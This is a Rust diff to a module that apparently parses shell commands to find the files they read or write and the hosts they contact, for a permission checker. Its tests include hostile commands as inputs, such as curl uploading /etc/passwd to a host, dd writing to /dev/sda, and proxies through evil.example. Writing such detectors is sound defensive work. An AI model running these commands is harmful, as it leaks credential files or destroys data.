@@ -1,71 +1,308 @@
 //! The files and hosts that the words of a program name.
 
-use std::borrow::Cow;
+use super::program::{Network, Operands, Program, Value, lists, lookup};
+use crate::pattern::command::{Invocation, Word, subcommand};
 
-use super::program::{Files, Network, lists};
+/// What happens to a file.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Use {
+    /// Read, as the program table knows.
+    Read,
+    /// Written or removed, as the program table knows.
+    Write,
+    /// Written because an option says so: like a redirection.
+    OptionWrite,
+    /// It may be opened in any way, or not be a file at all.
+    Unknown,
+}
 
-/// The words that name or may name a path, each with what the program does with it.
-///
-/// `known` is what the program table says; a redirecting option (`-o file`, `--output=file`) is read wide.
-pub(crate) fn paths<'w>(words: &[&'w str], known: Files) -> Vec<(Cow<'w, str>, Files)> {
-    let mut found: Vec<(&'w str, Files)> = Vec::new();
-    let mut options_end = false;
-    for word in words.iter().copied().skip(1) {
-        if known == Files::None {
-            break;
-        }
-        if !options_end && word == "--" {
-            options_end = true;
-        } else if !options_end && word.starts_with('-') && word.len() > 1 {
-            // The value of an option may be a file of any use, whatever the program does with its operands.
-            found.extend(option_value(word).filter(|value| looks_like_path(value)).map(|value| (value, Files::Either)));
-        } else {
-            // `@x` hands the content of a file over.
-            let (path, files) = word.strip_prefix('@').map_or((word, known), |path| (path, Files::Reads));
-            if !path.is_empty() && (known != Files::PathLike || looks_like_path(path)) {
-                found.push((path, files));
-            }
-            // `if=x`, `file=@x`
-            if let Some((_, value)) = word.split_once('=') {
-                let value = value.trim_start_matches('@');
-                if !value.is_empty() {
-                    found.push((value, Files::Either));
+/// The files and hosts of one program.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub(crate) struct Named {
+    pub(crate) files: Vec<(String, Use)>,
+    pub(crate) hosts: Vec<String>,
+    /// Whether the program talks to the network at all.
+    pub(crate) uses_network: bool,
+    /// Whether its host is an operand, so that one must be there.
+    pub(crate) needs_host: bool,
+}
+
+/// What the words of a program name. The first word is the program.
+pub(crate) fn named(words: &[&str], arguments: &[Word]) -> Named {
+    let Some((name, texts)) = words.split_first() else { return Named::default() };
+    let program = lookup(name);
+    let mut reader = Reader::new(program);
+    reader.read(texts);
+    reader.finish(subcommand(&Invocation::new(name, arguments)))
+}
+
+/// How many operands a program is given.
+pub(crate) fn count(name: &str, arguments: &[String]) -> usize {
+    let mut reader = Reader::new(lookup(name));
+    reader.read(&arguments.iter().map(String::as_str).collect::<Vec<_>>());
+    reader.operands.len()
+}
+
+struct Reader<'w> {
+    program: Program,
+    named: Named,
+    operands: Vec<&'w str>,
+    /// The folder that receives the operands, where an option names it.
+    target: Option<String>,
+    /// The options of the table that were given.
+    seen: Vec<&'w str>,
+}
+
+impl<'w> Reader<'w> {
+    fn new(program: Program) -> Self {
+        Self { program, named: Named::default(), operands: Vec::new(), target: None, seen: Vec::new() }
+    }
+
+    fn read(&mut self, words: &[&'w str]) {
+        let mut words = words.iter().copied();
+        let mut options_end = false;
+        while let Some(word) = words.next() {
+            if options_end || !word.starts_with('-') || word == "-" {
+                self.operands.push(word);
+            } else if word == "--" {
+                options_end = true;
+            } else if let Some(value) = self.option(word) {
+                // The value is the next word; without one there is nothing to hold against rules.
+                if let Some(next) = words.next() {
+                    self.value(next, value);
                 }
             }
         }
     }
-    match known {
-        Files::Copies => copies(found, Files::Reads),
-        Files::Moves => copies(found, Files::Writes),
-        _ => owned(found),
+
+    /// Reads an option, with its value where that is attached; what the next word is if it is the value.
+    fn option(&mut self, word: &'w str) -> Option<Value> {
+        if let Some(value) = self.listed(word) {
+            return self.flag(value);
+        }
+        if let Some((name, value)) = word.split_once('=') {
+            match self.listed(name) {
+                Some(kind) => self.value(value, kind),
+                None => self.unlisted_value(value),
+            }
+            return None;
+        }
+        if word.starts_with("--") {
+            return None;
+        }
+        // A cluster of single letters: the first that takes a value takes the rest, or the next word.
+        for (at, letter) in word.char_indices().skip(1) {
+            let end = at.saturating_add(letter.len_utf8());
+            let Some(value) = self.listed_letter(letter) else { continue };
+            let rest = word.get(end..).unwrap_or_default();
+            if rest.is_empty() || value == Value::Here {
+                return self.flag(value);
+            }
+            self.value(rest, value);
+            return None;
+        }
+        if let Some(start) = word.find(['/', '~', '.']) {
+            self.unlisted_value(word.get(start..).unwrap_or_default());
+        }
+        None
+    }
+
+    /// What the value of an option is that the table lists.
+    fn listed(&mut self, name: &'w str) -> Option<Value> {
+        let value = self.program.option(name)?;
+        self.seen.push(name);
+        Some(value)
+    }
+
+    fn listed_letter(&mut self, letter: char) -> Option<Value> {
+        let (names, value) = self.program.options.iter().find(|(names, _)| lists(names, &format!("-{letter}")))?;
+        self.seen.extend(
+            names.split_ascii_whitespace().find(|name| name.strip_prefix('-') == Some(letter.encode_utf8(&mut [0; 4]))),
+        );
+        Some(*value)
+    }
+
+    /// An option without an attached value.
+    fn flag(&mut self, value: Value) -> Option<Value> {
+        if value == Value::Here {
+            self.file(".", Use::OptionWrite);
+            return None;
+        }
+        Some(value)
+    }
+
+    fn value(&mut self, text: &str, kind: Value) {
+        match kind {
+            Value::Text | Value::Here => {}
+            Value::Reads => self.file(text, Use::Read),
+            Value::Writes => self.file(text, Use::OptionWrite),
+            Value::Both => {
+                self.file(text, Use::Read);
+                self.file(text, Use::OptionWrite);
+            }
+            Value::Data => self.data(text),
+            Value::Host => self.named.hosts.push(text.to_owned()),
+            Value::Target => self.target = Some(text.to_owned()),
+        }
+        // A URL is a host in whatever option it stands, unless the option is text.
+        if self.program.network == Network::Client && !matches!(kind, Value::Host | Value::Text | Value::Data) {
+            self.named.hosts.extend(url(text).map(str::to_owned));
+        }
+    }
+
+    /// `@file`, `name=@file`, `name@file`, `name=<file`: the content of a file, anywhere after the mark.
+    fn data(&mut self, text: &str) {
+        for (at, mark) in text.char_indices().filter(|(_, c)| matches!(c, '@' | '<')) {
+            let path = text.get(at.saturating_add(mark.len_utf8())..).unwrap_or_default();
+            self.file(path.split([';', ',']).next().unwrap_or(path), Use::Read);
+        }
+    }
+
+    /// The value of an option that nothing is known of: a file if it looks like one.
+    fn unlisted_value(&mut self, value: &str) {
+        let value = value.trim_start_matches('@');
+        if looks_like_path(value) {
+            let known = match self.program.operands {
+                Operands::Reads | Operands::Searches(_) => Use::Read,
+                Operands::Writes | Operands::Moves => Use::Write,
+                _ => Use::Unknown,
+            };
+            self.file(value, known);
+            if known != Use::Unknown {
+                self.file(value, Use::Unknown);
+            }
+        }
+        if self.program.network != Network::Local {
+            self.named.hosts.extend(url(value).map(str::to_owned));
+        }
+    }
+
+    fn file(&mut self, path: &str, how: Use) {
+        let standard =
+            matches!(path, "" | "-" | "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr" | "/dev/tty");
+        if !standard && !self.named.files.iter().any(|(known, used)| known == path && *used == how) {
+            self.named.files.push((path.to_owned(), how));
+        }
+    }
+
+    fn finish(mut self, subcommand: Option<&str>) -> Named {
+        self.operand_files();
+        self.operand_hosts(subcommand);
+        self.named
+    }
+
+    fn operand_files(&mut self) {
+        let operands = std::mem::take(&mut self.operands);
+        let given = |options: &str, seen: &[&str]| seen.iter().any(|option| lists(options, option));
+        match self.program.operands {
+            Operands::Text | Operands::Urls => {}
+            Operands::Reads => operands.iter().for_each(|path| self.file(path, Use::Read)),
+            Operands::Writes => operands.iter().for_each(|path| self.file(path, Use::Write)),
+            Operands::Files => operands.iter().for_each(|path| self.file(path.trim_start_matches('@'), Use::Unknown)),
+            Operands::Copies => self.copies(&operands, false),
+            Operands::Moves => self.copies(&operands, true),
+            Operands::Searches(options) => {
+                let pattern = usize::from(!given(options, &self.seen));
+                operands.iter().skip(pattern).for_each(|path| self.file(path, Use::Read));
+            }
+            Operands::Names => {
+                operands.iter().filter(|path| looks_like_path(path)).for_each(|path| self.file(path, Use::Unknown));
+            }
+            Operands::Transfers => {
+                let here = |word: &&&str| remote_host(word).is_none();
+                if let Some((last, sources)) = operands.split_last() {
+                    sources.iter().filter(here).for_each(|path| self.file(path, Use::Read));
+                    [last].into_iter().filter(here).for_each(|path| self.file(path, Use::Write));
+                }
+            }
+            Operands::Splits => {
+                operands.iter().take(1).for_each(|path| self.file(path, Use::Read));
+                self.file(&format!("{}aa", operands.get(1).unwrap_or(&"x")), Use::Write);
+            }
+            Operands::Downloads(options) => {
+                if !given(options, &self.seen) {
+                    self.file(".", Use::Write);
+                }
+            }
+        }
+        // `dd if=x of=y`, and the like of other programs.
+        for (key, value) in operands.iter().filter_map(|word| word.split_once('=')) {
+            match key {
+                "if" => self.file(value, Use::Read),
+                "of" => self.file(value, Use::OptionWrite),
+                _ if self.program.operands == Operands::Text => {}
+                _ => self.unlisted_value(value),
+            }
+        }
+        self.operands = operands;
+    }
+
+    /// A copy's target may be a folder, in which the sources then appear by their names.
+    fn copies(&mut self, operands: &[&str], removes: bool) {
+        let target = self.target.take();
+        let (target, sources) = match (&target, operands.split_last()) {
+            (Some(target), _) => (target.as_str(), operands),
+            (None, Some((source, []))) => return self.file(source, Use::Read),
+            (None, Some((target, sources))) => (*target, sources),
+            (None, None) => return,
+        };
+        self.file(target, Use::Write);
+        for source in sources {
+            self.file(source, Use::Read);
+            if removes {
+                self.file(source, Use::Write);
+            }
+            let name = source.trim_end_matches('/').rsplit('/').next().unwrap_or_default();
+            if !matches!(name, "" | "." | "..") {
+                self.file(&format!("{}/{name}", target.trim_end_matches('/')), Use::Write);
+            }
+        }
+    }
+
+    fn operand_hosts(&mut self, subcommand: Option<&str>) {
+        let operands = std::mem::take(&mut self.operands);
+        match self.program.network {
+            Network::Local => {}
+            Network::IfUrl => self.named.hosts.extend(operands.iter().filter_map(|word| url(word)).map(str::to_owned)),
+            Network::Client => {
+                self.named.uses_network = true;
+                self.named.needs_host = true;
+                for word in operands {
+                    let host = word.strip_prefix('@').unwrap_or(word);
+                    if self.named.hosts.is_empty() || !is_no_host(host) {
+                        self.named.hosts.push(host.to_owned());
+                    }
+                }
+            }
+            Network::Remote => {
+                let hosts = operands.iter().filter_map(|word| url(word).or_else(|| remote_host(word)));
+                self.named.hosts.extend(hosts.map(str::to_owned));
+            }
+            Network::Configured(subcommands) => {
+                let active = match subcommand {
+                    Some(name) => subcommands.is_empty() || lists(subcommands, name),
+                    // Without operands there is none; otherwise it could be any.
+                    None => subcommands.is_empty() || !operands.is_empty() || lists(subcommands, "-"),
+                };
+                self.named.uses_network = active;
+                if active {
+                    let hosts = operands
+                        .iter()
+                        .filter_map(|word| url(word).or_else(|| remote(word)).or_else(|| registry(word)));
+                    self.named.hosts.extend(hosts.map(str::to_owned));
+                } else {
+                    self.named.hosts.clear();
+                }
+            }
+        }
+        self.named.uses_network |= !self.named.hosts.is_empty();
     }
 }
 
-/// What a copy or move does with its sources, and that it writes: its target may be a folder, in which the sources then appear by their names.
-fn copies<'w>(mut found: Vec<(&'w str, Files)>, sources: Files) -> Vec<(Cow<'w, str>, Files)> {
-    let Some((target, _)) = found.pop() else { return Vec::new() };
-    let received = found.iter().filter_map(|(source, _)| {
-        let name = source.trim_end_matches('/').rsplit('/').next().filter(|name| !matches!(*name, "" | "." | ".."))?;
-        Some((Cow::Owned(format!("{target}/{name}")), Files::Writes))
-    });
-    let mut all: Vec<_> = received.collect();
-    all.push((Cow::Borrowed(target), Files::Writes));
-    all.extend(found.into_iter().map(|(source, _)| (Cow::Borrowed(source), sources)));
-    all
-}
-
-fn owned<'w>(found: Vec<(&'w str, Files)>) -> Vec<(Cow<'w, str>, Files)> {
-    found.into_iter().map(|(path, files)| (Cow::Borrowed(path), files)).collect()
-}
-
-/// The part of an option that may be its value: after `=`, or from the first character that only a path has.
-fn option_value(word: &str) -> Option<&str> {
-    if let Some((_, value)) = word.split_once('=') {
-        return Some(value.trim_start_matches('@'));
-    }
-    // `-o/etc/x`, `-I../x`; `--long/x` is no option with a value.
-    let start = word.find(['/', '~', '.']).filter(|_| !word.starts_with("--"))?;
-    word.get(start..)
+/// Ports, and the record types of `dig`: words after a host that are none.
+fn is_no_host(word: &str) -> bool {
+    let types = "A AAAA MX TXT NS SOA CNAME PTR SRV CAA ANY IN";
+    word.starts_with('+') || lists(types, word) || word.chars().all(|c| c.is_ascii_digit() || c == '-')
 }
 
 /// Whether a word looks like a path rather than a name.
@@ -73,67 +310,113 @@ fn looks_like_path(word: &str) -> bool {
     word.contains(['/', '\\']) || word.starts_with(['~', '.'])
 }
 
-/// The words that name a host: URLs, and for a network client every operand.
-pub(crate) fn hosts<'w>(words: &[&'w str], network: Network) -> Vec<&'w str> {
-    let mut found = Vec::new();
-    let mut is_value = false;
-    for word in words.iter().copied().skip(1) {
-        let (after_option, option) = (is_value, word.starts_with('-'));
-        match network {
-            Network::Local => {}
-            Network::IfUrl | Network::Configured(_) => found.extend(url(word).or_else(|| remote(word, network))),
-            Network::Client(with_value) => {
-                is_value = option && lists(with_value, word);
-                // The value of an option may still be a URL (`--url`, `--proxy`).
-                found.extend(if after_option || option { url(word) } else { Some(word) });
-            }
-        }
-    }
-    found
-}
-
 /// The URL in a word: from the start of its scheme to the end of the word.
 fn url(word: &str) -> Option<&str> {
     let (before, _) = word.split_once("://")?;
-    let scheme = before.rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')));
-    let start = scheme
-        .map_or(0, |at| at.saturating_add(before.get(at..).and_then(|s| s.chars().next()).map_or(1, char::len_utf8)));
+    let outside = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'));
+    let start = before.char_indices().rfind(|(_, c)| outside(*c)).map_or(0, |(at, c)| at.saturating_add(c.len_utf8()));
     word.get(start..)
 }
 
 /// The host of an scp-like address (`git@github.com:owner/repo`).
-fn remote(word: &str, network: Network) -> Option<&str> {
+fn remote(word: &str) -> Option<&str> {
     let (host, _) = word.split_once(':')?;
-    let address = matches!(network, Network::Configured(_)) && host.contains('@') && !host.contains('/');
-    address.then_some(host)
+    (host.contains('@') && !host.contains('/')).then_some(host)
+}
+
+/// The host of `host:path` and `user@host:path`, as scp and rsync read them: a colon before any slash.
+fn remote_host(word: &str) -> Option<&str> {
+    let (host, _) = word.split_once(':')?;
+    (!host.is_empty() && !host.contains('/')).then_some(host)
+}
+
+/// The registry of an image (`registry.example:5000/team/image`).
+fn registry(word: &str) -> Option<&str> {
+    let (host, _) = word.split_once('/')?;
+    (host.contains(['.', ':']) && !host.starts_with(['.', '@', '~'])).then_some(host)
 }
 
 #[cfg(test)]
 mod tests {
+    use super::Use::{OptionWrite, Read, Unknown, Write};
     use super::*;
 
-    #[test]
-    fn option_values_and_operands_name_paths() {
-        let words = ["x", "a", "-o/etc/y", "--out=b/c", "--", "-d", "@e", "if=f"];
-        let found: Vec<_> = paths(&words, Files::Reads).into_iter().map(|(path, _)| path.into_owned()).collect();
-        assert_eq!(found, ["a", "/etc/y", "b/c", "-d", "e", "if=f", "f"]);
-        assert!(paths(&["echo", "/etc/passwd"], Files::None).is_empty());
-        assert_eq!(paths(&["git", "push", "./x", "~/y", ".env"], Files::PathLike).len(), 3);
+    fn of(command: &str) -> Named {
+        let words: Vec<&str> = command.split(' ').collect();
+        let arguments: Vec<Word> = words.iter().skip(1).map(|word| Word::literal(*word)).collect();
+        named(&words, &arguments)
     }
 
-    #[test]
-    fn a_copy_writes_its_target_and_what_the_target_receives() {
-        let found: Vec<_> = paths(&["cp", "-r", "a/b", "/etc"], Files::Copies);
-        let expected = [("/etc/b".into(), Files::Writes), ("/etc".into(), Files::Writes), ("a/b".into(), Files::Reads)];
-        assert_eq!(found, expected);
-        assert!(paths(&["mv", "a", "b"], Files::Moves).iter().all(|(_, files)| *files == Files::Writes));
+    macro_rules! files {
+        ($($name:ident: $command:expr => [$(($path:expr, $how:expr)),*];)*) => {$(
+            #[test]
+            fn $name() {
+                let expected: Vec<(String, Use)> = vec![$(($path.to_owned(), $how)),*];
+                assert_eq!(of($command).files, expected);
+            }
+        )*};
     }
 
-    #[test]
-    fn urls_and_operands_of_clients_name_hosts() {
-        assert_eq!(hosts(&["curl", "-o", "out.html", "example.com"], Network::Client("-o")), ["example.com"]);
-        assert_eq!(hosts(&["x", "--url=https://a.b/c", "d"], Network::IfUrl), ["https://a.b/c"]);
-        assert_eq!(hosts(&["git", "clone", "git@h.io:o/r"], Network::Configured("")), ["git@h.io"]);
-        assert!(hosts(&["echo", "https://a"], Network::Local).is_empty());
+    files! {
+        reads: "cat a b" => [("a", Read), ("b", Read)];
+        after_dashes: "rm -- -x" => [("-x", Write)];
+        text: "echo /etc/passwd" => [];
+        unlisted: "tool a @b" => [("a", Unknown), ("b", Unknown)];
+        names: "git add ./x .env topic" => [("./x", Unknown), (".env", Unknown)];
+        message: "git commit -m .env" => [];
+        attached_message: "git commit -m.env" => [];
+        pattern: "grep -rn .env src" => [("src", Read)];
+        pattern_by_option: "grep -e x .env" => [(".env", Read)];
+        patterns_from_file: "grep -f/etc/passwd a" => [("/etc/passwd", Read), ("a", Read)];
+        patterns_from_long: "grep --file=/etc/passwd a" => [("/etc/passwd", Read), ("a", Read)];
+        output_of_sort: "sort -o b a" => [("b", OptionWrite), ("a", Read)];
+        output_in_cluster: "sort -uob a" => [("b", OptionWrite), ("a", Read)];
+        unlisted_option: "cat --x=/etc/y" => [("/etc/y", Read), ("/etc/y", Unknown)];
+        copy: "cp -r a/b /etc" => [("/etc", Write), ("a/b", Read), ("/etc/b", Write)];
+        moved: "mv a b" => [("b", Write), ("a", Read), ("a", Write), ("b/a", Write)];
+        dd: "dd if=a of=/dev/sda" => [("a", Read), ("/dev/sda", OptionWrite)];
+        curl_output: "curl -sSLo /etc/x https://a.b" => [("/etc/x", OptionWrite)];
+        curl_here: "curl -O https://a.b/c" => [(".", OptionWrite)];
+        curl_data: "curl -d @/etc/passwd https://a.b" => [("/etc/passwd", Read)];
+        curl_form: "curl -F x=@/etc/passwd;type=y https://a.b" => [("/etc/passwd", Read)];
+        wget_here: "wget https://a.b/c" => [(".", Write)];
+        wget_there: "wget -O x https://a.b/c" => [("x", OptionWrite)];
+        standard: "cat - /dev/null" => [];
+        copy_into: "cp -t /etc a" => [("/etc", Write), ("a", Read), ("/etc/a", Write)];
+        split: "split a x" => [("a", Read), ("xaa", Write)];
+        upload: "scp ./a host:b" => [("./a", Read)];
+        download: "scp host:a /etc/b" => [("/etc/b", Write)];
+    }
+
+    macro_rules! hosts {
+        ($($name:ident: $command:expr => $hosts:expr, $uses:expr;)*) => {$(
+            #[test]
+            fn $name() {
+                let found = of($command);
+                assert_eq!((found.hosts, found.uses_network), ($hosts.map(|host: &str| host.to_owned()).to_vec(), $uses));
+            }
+        )*};
+    }
+
+    hosts! {
+        operand: "curl -o out.html example.com" => ["example.com"], true;
+        proxy_attached: "curl -sxevil.example https://good.example" => ["evil.example", "https://good.example"], true;
+        proxy_long: "curl --proxy=evil.example:80 good.example" => ["evil.example:80", "good.example"], true;
+        port: "nc good.example 80" => ["good.example"], true;
+        number_first: "nc 2130706433 80" => ["2130706433"], true;
+        record_type: "dig @1.1.1.1 good.example A" => ["1.1.1.1", "good.example"], true;
+        in_option: "tool --url=https://a.b/c d" => ["https://a.b/c"], true;
+        message_with_url: "git commit -m https://x.example" => [], false;
+        remote: "git clone git@h.io:o/r" => ["git@h.io"], true;
+        image: "docker pull evil.example/x" => ["evil.example"], true;
+        configured: "npm install" => [], true;
+        bare: "yarn" => [], true;
+        local: "npm test" => [], false;
+        ssh: "ssh -p 22 -i key.pem u@good.example" => ["u@good.example"], true;
+        jump: "ssh -J evil.example good.example" => ["evil.example", "good.example"], true;
+        scp: "scp -P 22 a good.example:x" => ["good.example"], true;
+        scp_local: "scp a b" => [], false;
+        relative: "nc.openbsd h 1" => ["h"], true;
+        text_with_url: "echo https://a" => [], false;
     }
 }
